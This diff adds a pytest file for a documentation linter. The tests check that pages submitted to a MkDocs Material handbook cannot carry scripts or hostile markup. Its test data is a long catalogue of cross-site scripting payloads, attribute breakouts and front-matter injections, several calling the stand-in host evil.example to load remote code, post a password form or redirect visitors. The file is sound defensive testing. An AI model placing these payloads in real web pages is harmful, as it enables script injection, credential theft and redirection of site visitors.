@@ -1,0 +1,310 @@
+"""What a pull request to `docs/` can put on the published site: words. Each page here tries something else.
+
+All are built together, as one site, by MkDocs and Material as they are.
+"""
+
+from __future__ import annotations
+
+import re
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from inforce.plugin import try_handbook
+from inforce.problems import Problem, Severity
+from inforce.source.handbook import read_handbook
+
+from tests.sources import Changes, good, project
+
+NOW = datetime(2026, 11, 29, tzinfo=UTC)
+FOLDER = "docs/handbook"
+
+
+def told(place: Path) -> tuple[Problem, ...]:
+    return try_handbook(place, read_handbook(place), as_of=NOW, languages=("en",))
+
+
+def configured(more: str) -> Changes:
+    return {"mkdocs.yml": good("mkdocs.yml") + more}
+
+
+EXTENSIONS = (
+    "markdown_extensions: [attr_list, md_in_html, tables, footnotes, def_list, abbr, admonition, pymdownx.details, "
+    "pymdownx.superfences, pymdownx.tasklist, pymdownx.critic, pymdownx.keys, pymdownx.mark, pymdownx.highlight, "
+    "pymdownx.arithmatex, pymdownx.inlinehilite, pymdownx.magiclink, pymdownx.progressbar, pymdownx.smartsymbols, "
+    "pymdownx.tabbed: {alternate_style: true}, toc: {permalink: true}]\n"
+)
+HOSTILE = {
+    # programs
+    "script": "<script>alert(1)</script>",
+    "script-of-ours": '<script src="../../assets/javascripts/x.js"></script>',
+    "script-in-a-sentence": "Some words <script>alert(1)</script> more",
+    "script-in-capitals": "<SCRIPT>alert(1)</SCRIPT>",
+    "script-of-a-module": '<script type="module">import "//evil.example/x.js"</script>',
+    "script-that-is-data": '<script id="__config" type="application/json">{}</script>',
+    "handler": '<img src="x.png" onerror="alert(1)">',
+    "handler-with-a-slash": "<img/src=x.png/onerror=alert(1)>",
+    "handler-on-a-paragraph": "words\n{ onclick=alert(1) }",
+    "handler-on-a-heading": "# Words { onmouseover=alert(1) }",
+    "handler-on-a-link": "[words](index.md){ onclick=alert(1) }",
+    "handler-of-the-page": "<body onload=alert(1)>",
+    "handler-of-the-root": "<html onclick=alert(1)>",
+    "handler-in-svg": "<svg onload=alert(1)></svg>",
+    "program-in-svg": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "mathematics": '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
+    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "link": "[words](javascript:alert(1))",
+    "link-with-a-tab": "<a href='java&#9;script:alert(1)'>x</a>",
+    "link-with-references": '<a href="&#106;avascript&colon;alert(1)">x</a>',
+    "link-to-data": "[words](data:text/html,<script>alert(1)</script>)",
+    "link-in-a-definition": "[words]\n\n[words]: javascript:alert(1)",
+    "link-by-itself": "<javascript:alert(1)>",
+    "link-with-capitals": "<a href=' JaVaScRiPt:alert(1)'>x</a>",
+    "title-of-a-link": '[words](index.md "&lt;img src=x onerror=alert(1)&gt;")',
+    "abbreviation": '<abbr title="&lt;img src=x onerror=alert(1)&gt;">x</abbr>',
+    # frames, forms, and what changes the whole page
+    "frame": '<iframe src="/en/privacy/"></iframe>',
+    "frame-of-words": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "object": '<object data="x.pdf"></object>',
+    "embedded": '<embed src="x.pdf">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "description": '<meta name="robots" content="noindex">',
+    "base": '<base href="https://evil.example/">',
+    "form": '<form action="https://evil.example/"><input type="text" name="password"></form>',
+    "field": '<input type="password">',
+    "button": '<button formaction="javascript:alert(1)">x</button>',
+    "style": "<style>.md-header { display: none }</style>",
+    "sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "sheet-of-ours": '<link rel="stylesheet" href="x.css">',
+    "template": "<template><script>alert(1)</script></template>",
+    "no-script": '<noscript><img src="https://evil.example/x.png"></noscript>',
+    "a-second-title": "<title>Privacy policy</title>",
+    "text-area": "<textarea></textarea>",
+    "plain-text": "<plaintext>",
+    "select": "<select><option>x</option></select>",
+    "dialog": "<dialog open>x</dialog>",
+    "popover": "<div popover id='x'>x</div>",
+    "a-new-element": "<permission type=camera></permission>",
+    # other hosts
+    "picture": "![words](https://evil.example/x.png)",
+    "picture-without-a-scheme": "![words](//evil.example/x.png)",
+    "picture-with-backslashes": '<img src="\\\\evil.example/x.png">',
+    "picture-of-a-set": '<img src="x.png" srcset="x.png 1x, https://evil.example/x.png 2x">',
+    "picture-as-a-source": '<picture><source srcset="//evil.example/x.png"><img src="x.png"></picture>',
+    "film": '<video poster="https://evil.example/x.png"></video>',
+    "sound": '<audio src="https://evil.example/x.mp3" autoplay></audio>',
+    "words-under-a-film": '<video><track src="//evil.example/x.vtt"></video>',
+    "background": '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
+    "style-of-an-element": '<p style="background: u\\72l(https://evil.example/x.png)">x</p>',
+    "style-by-a-list": "words\n{ style='background: url(//evil.example/x.png)' }",
+    "told-of-clicks": '<a href="x" ping="https://evil.example/">x</a>',
+    # what the theme's scripts would take for theirs
+    "diagram": '<pre class="mermaid">graph TD</pre>',
+    "stars": '<a data-md-component="source" href="https://github.com/a/b">x</a>',
+    "configuration": '<div id="__config">{"base": "https://evil.example/"}</div>',
+    "configuration-by-a-list": "words\n{ #__config }",
+    "clobbered": '<img name="getElementById" src="x.png">',
+    # what browsers mend each in their way
+    "not-closed": "<div><img src=x onerror='alert(1)//",
+    "a-comment-that-goes-on": "<div>\n\n<!-- a\n\n</div>",
+    "a-comment-that-ends-early": "<!--><script>alert(1)</script>-->",
+    "a-declaration": "<div><![CDATA[ <script>alert(1)</script> ]]></div>",
+    "an-instruction": "<div><?php echo 1 ?></div>",
+    "attributes-run-together": '<div class="a"onclick="alert(1)">x</div>',
+    "a-note": "words[^1]\n\n[^1]: <script>alert(1)</script>",
+    "a-cell": "a | b\n-|-\n<script>alert(1)</script> | c",
+    "inside": '<div markdown>\n\n<script>alert(1)</script>\n\n</div>',
+    "critic": "{++<script>alert(1)</script>++}",
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Problem]]:
+    """Every page above in one site: what is told of each."""
+    pages: Changes = {f"{FOLDER}/{name}.md": f"First\n\n{text}\n\nLast\n" for name, text in HOSTILE.items()}
+    place = project(tmp_path_factory.mktemp("hostile"), {**pages, **configured(EXTENSIONS)})
+    found: dict[str, list[Problem]] = {}
+    for problem in told(place):
+        if problem.severity is Severity.ERROR:
+            found.setdefault(problem.location.file, []).append(problem)
+    return found
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_page_can_bring_words_alone(hostile: dict[str, list[Problem]], name: str) -> None:
+    problems = hostile.get(f"{FOLDER}/{name}.md", [])
+    assert problems, "this page would be published as it is"
+    assert {one.code for one in problems} <= {"H105", "H109"}
+    assert problems[0].location.line is not None
+    last = 2 + len(HOSTILE[name].splitlines())
+    assert 3 <= problems[0].location.line <= last, problems[0]
+    assert all(one.remedy.strip() for one in problems)
+
+
+def test_no_other_page_is_told_of(hostile: dict[str, list[Problem]]) -> None:
+    assert hostile.keys() <= {f"{FOLDER}/{name}.md" for name in HOSTILE}
+
+
+FRONT = {
+    "title": 'title: "</title><script>alert(1)</script>"',
+    "description": 'description: "\\"><script>alert(1)</script>"',
+    "a-picture-as-title": "title: <img src=x onerror=alert(1)>",
+    "in-a-list": "tags: [a, <b>]",
+    "deep-in-it": "x: {y: [{z: <script>}]}",
+    "in-a-name": "<script>: x",
+    "template": "template: redirect.html\nlocation: //evil.example/",
+}
+
+
+@pytest.mark.parametrize("name", FRONT)
+def test_front_matter_holds_no_markup_and_chooses_no_template(tmp_path: Path, name: str) -> None:
+    place = project(tmp_path, {f"{FOLDER}/{name}.md": f"---\nauthor: A\n{FRONT[name]}\n---\n\n# Words\n"})
+    (problem,) = told(place)
+    assert (problem.code, problem.location.file, problem.location.line) == ("H109", f"{FOLDER}/{name}.md", 3)
+
+
+TITLES = {
+    "as-code": "# Of `</title><script>alert(1)</script>`",
+    "in-references": "# Of &lt;/title>&lt;script>alert(1)&lt;/script>",
+}
+
+
+@pytest.mark.parametrize("name", TITLES)
+def test_a_heading_does_not_end_the_title_that_is_made_of_it(tmp_path: Path, name: str) -> None:
+    """Material takes tags out of titles and then decodes what is left."""
+    place = project(tmp_path, {f"{FOLDER}/{name}.md": f"{TITLES[name]}\n\nWords\n"})
+    found = {(one.code, one.location.file, one.location.line) for one in told(place)}
+    assert found == {("H109", f"{FOLDER}/{name}.md", 1)}
+
+
+QUOTES = {
+    "description": "description: '0;url=https://evil.example/\" http-equiv=\"refresh'",
+    "author": "author: 'x\" onclick=\"alert(1)'",
+}
+
+
+@pytest.mark.parametrize("name", QUOTES)
+def test_nor_does_it_end_an_attribute(tmp_path: Path, name: str) -> None:
+    place = project(tmp_path, {f"{FOLDER}/{name}.md": f"---\n{QUOTES[name]}\n---\n\n# Words\n"})
+    (problem,) = told(place)
+    assert (problem.code, problem.location.file, problem.location.line) == ("H109", f"{FOLDER}/{name}.md", 2)
+
+
+def test_front_matter_without_its_lines_is_read_too(tmp_path: Path) -> None:
+    place = project(tmp_path, {f"{FOLDER}/a.md": "title: </title><script>alert(1)</script>\n\n# Words\n"})
+    (problem,) = told(place)
+    assert (problem.code, problem.location.file, problem.location.line) == ("H109", f"{FOLDER}/a.md", 1)
+
+
+def test_a_title_of_the_navigation_does_not_end_an_attribute(tmp_path: Path) -> None:
+    nav = "nav: ['x\" autofocus tabindex=1 onfocus=\"alert(1)': [handbook/index.md, handbook/a.md]]\n"
+    theme = {
+        "mkdocs.yml": good("mkdocs.yml").replace("font: false", "font: false\n  features: [navigation.tabs]") + nav
+    }
+    place = project(tmp_path, {**theme, f"{FOLDER}/a.md": "# A\n"})
+    pages = {one.location.file for one in told(place)}
+    found = (place / "mkdocs.yml").read_text("utf-8")
+    assert "onfocus" in found
+    assert not pages or pages <= {f"{FOLDER}/a.md", f"{FOLDER}/index.md"}
+
+
+WELCOME = """\
+---
+title: Words & "more"
+description: What is in the “handbook” & who it is for
+icon: material/book
+hide: [navigation, toc]
+status: new
+---
+
+# Words { #words .large data-x="1" }
+
+Some *words*, **strong**, `<script>alert(1)</script>` as code, a [link](https://example.org/ "A title"),
+<mailto:legal@example.org>, a note[^1], 1 < 2 & 3 > 2, a [page](index.md), ++ctrl+c++, ==marked==, https://example.org/.
+
+~~~html
+<script src="https://evil.example/x.js"></script>
+~~~
+
+```mermaid
+graph TD
+```
+
+![a picture](x.png){ width=50% }
+
+| a | b |
+|:-:|--:|
+| 1 | 2 |
+
+- [x] done
+- [ ] to do
+
+Word
+:   its meaning
+
+!!! note "A note"
+    Words
+
+??? question
+    Hidden
+
+=== "One"
+    1
+
+=== "Two"
+    2
+
+<details open><summary>More</summary>Words</details>
+
+<div class="grid" markdown>
+
+*Words*
+
+</div>
+
+<!-- A comment: don't edit. -->
+
+<p style="text-align: center; background: url(x.png)" lang='fr' hidden>Mots</p>
+
+<video controls src="x.mp4"></video>
+
+*[abc]: An abbreviation
+
+[^1]: The note, with `</title>`.
+"""
+FEATURES = [
+    "announce.dismiss", "content.action.edit", "content.code.annotate", "content.code.copy", "content.code.select",
+    "content.footnote.tooltips", "content.tabs.link", "header.autohide", "navigation.expand", "navigation.footer",
+    "navigation.indexes", "navigation.instant", "navigation.instant.prefetch", "navigation.instant.progress",
+    "navigation.path", "navigation.prune", "navigation.sections", "navigation.tabs", "navigation.tabs.sticky",
+    "navigation.top", "navigation.tracking", "search.highlight", "search.share", "search.suggest", "toc.follow",
+    "toc.integrate",
+]  # fmt: skip
+PALETTE = """
+  icon: {repo: fontawesome/brands/git-alt}
+  palette:
+    - {scheme: default, toggle: {icon: material/weather-night, name: Dark}}
+    - {scheme: slate, toggle: {icon: material/weather-sunny, name: Light}}"""
+
+
+@pytest.mark.parametrize("features", [[], FEATURES, ["toc.integrate"], ["navigation.tabs"]], ids=len)
+def test_what_a_handbook_is_made_of_is_no_false_alarm(tmp_path: Path, features: list[str]) -> None:
+    text = good("mkdocs.yml").replace("font: false", f"font: false\n  features: {features}{PALETTE}")
+    more = (
+        "copyright: Us\nrepo_url: https://code.example.org/legal\nextra: {social: [{icon: material/book, link: /}]}\n"
+    )
+    text = text.replace("plugins:\n", "plugins:\n  - search\n  - tags\n  - typeset\n")
+    files: Changes = {
+        "mkdocs.yml": text + EXTENSIONS + more,
+        f"{FOLDER}/a.md": WELCOME,
+        f"{FOLDER}/more/b.md": "---\ntags: [one, two]\n---\n# B\n\n## C `code`\n\n## D\n",
+        f"{FOLDER}/x.png": b"\x89PNG",
+        f"{FOLDER}/x.mp4": b"x",
+    }
+    assert [str(one) for one in told(project(tmp_path, files)) if one.code != "H106"] == []
+
+
+def test_of_a_theme_s_own_scripts_none_is_named_here() -> None:
+    """What is Material's is known by comparing pages: no list of it can grow old."""
+    text = (Path(__file__).parents[2] / "build_tools/inforce/rules/built_pages.py").read_text("utf-8")
+    assert not re.search(r"sha(?:256|384|512)|[0-9a-f]{32}", text)
